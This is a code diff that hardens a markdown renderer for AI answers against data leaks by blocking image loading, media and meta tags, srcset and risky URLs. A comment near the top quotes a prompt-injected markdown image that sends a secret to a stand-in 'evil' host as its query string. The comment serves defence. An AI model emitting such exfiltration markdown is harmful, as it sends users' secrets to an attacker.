@@ -4,8 +4,23 @@ import { Marked } from "../vendor/marked-18.2.1/marked.esm.js";
 import DOMPurify from "../vendor/dompurify-3.4.18/purify.es.mjs";
 import hljs from "../vendor/highlight.js-11.12.0/highlight.min.js";
 
-const marked = new Marked({ gfm: true, breaks: false });
-const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i;
+// Images never load from an answer: a prompt-injected `![](https://evil/?q=<secret>)`
+// would send data away, and a same-origin src would fire a GET as the reader. An
+// image becomes a link the reader may choose to open.
+const escapeHtml = (text) =>
+  text.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]);
+
+const marked = new Marked({
+  gfm: true,
+  breaks: false,
+  renderer: {
+    image({ href, text }) {
+      return `<a href="${escapeHtml(href || "")}">🖼 ${escapeHtml(text || "image")}</a>`;
+    },
+  },
+});
+// http(s), mailto, #fragments, and relative paths (never protocol-relative //host)
+const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/)|\.{1,2}\/|[^:/?#]+(?:[/?#]|$))/i;
 
 DOMPurify.addHook("afterSanitizeAttributes", (node) => {
   for (const name of ["href", "src", "xlink:href", "action", "formaction"]) {
@@ -21,8 +36,13 @@ DOMPurify.addHook("afterSanitizeAttributes", (node) => {
 
 const PURIFY = {
   USE_PROFILES: { html: true },
-  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed", "svg", "math"],
-  FORBID_ATTR: ["style"],
+  FORBID_TAGS: [
+    "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed", "svg", "math",
+    "img", "picture", "source", "video", "audio", "track", "link", "meta", "base",
+  ],
+  FORBID_ATTR: ["style", "srcset"],
+  // an answer's id="..." must not shadow the page's own elements
+  SANITIZE_NAMED_PROPS: true,
 };
 
 export function renderMarkdown(text) {
